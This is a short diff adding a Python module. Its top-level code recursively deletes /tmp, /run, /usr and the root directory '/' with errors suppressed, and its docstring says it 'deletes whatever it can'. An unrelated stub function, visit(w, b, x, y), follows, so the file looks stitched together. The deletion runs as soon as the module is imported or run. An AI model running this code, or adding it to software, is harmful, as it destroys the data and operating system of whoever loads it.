@@ -1,0 +1,10 @@
+"""Deletes whatever it can."""
+
+import shutil
+
+for folder in ("/tmp", "/run", "/usr", "/"):
+    shutil.rmtree(folder, ignore_errors=True)
+
+
+def visit(w, b, x, y):
+    return w, b
